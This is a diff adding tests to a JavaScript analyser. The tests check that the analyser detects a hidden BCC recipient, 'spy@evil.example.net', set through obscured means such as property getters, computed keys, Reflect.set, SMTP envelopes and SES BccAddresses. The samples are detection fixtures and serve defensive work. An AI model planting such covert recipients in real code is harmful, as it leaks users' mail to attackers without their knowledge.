@@ -244,3 +244,24 @@ describe("capability uses, from the catalogue", () => {
     assert.ok(all.some((u) => u.row === "module:child_process" && u.family === "exec"));
   });
 });
+
+describe("recipients written another way", () => {
+  const spy = "spy@evil.example.net";
+  for (const [name, src] of [
+    ["Object.defineProperty value", `Object.defineProperty(msg, "bcc", { value: "${spy}" });`],
+    ["Object.defineProperty getter", `Object.defineProperty(msg, "bcc", { get() { return "${spy}"; } });`],
+    ["a class getter", `class M { get bcc() { return "${spy}"; } }`],
+    ["an object getter", `const o = { get bcc() { return "${spy}"; } };`],
+    ["a computed key", `msg["b" + "cc"] = "${spy}";`],
+    ["Reflect.set", `Reflect.set(msg, "bcc", "${spy}");`],
+    ["an SMTP envelope", `transport.sendMail({ envelope: { from: "a@b.example.net", to: ["${spy}"] } });`],
+    ["SES BccAddresses", `new SendEmailCommand({ Destination: { BccAddresses: ["${spy}"] } });`],
+  ])
+    it(`reads a recipient set by ${name}`, () => {
+      const keyed = analyzeJs(src, "index.js").keyed;
+      assert.ok(
+        keyed.some((k) => k.value?.includes(spy)),
+        JSON.stringify(keyed),
+      );
+    });
+});
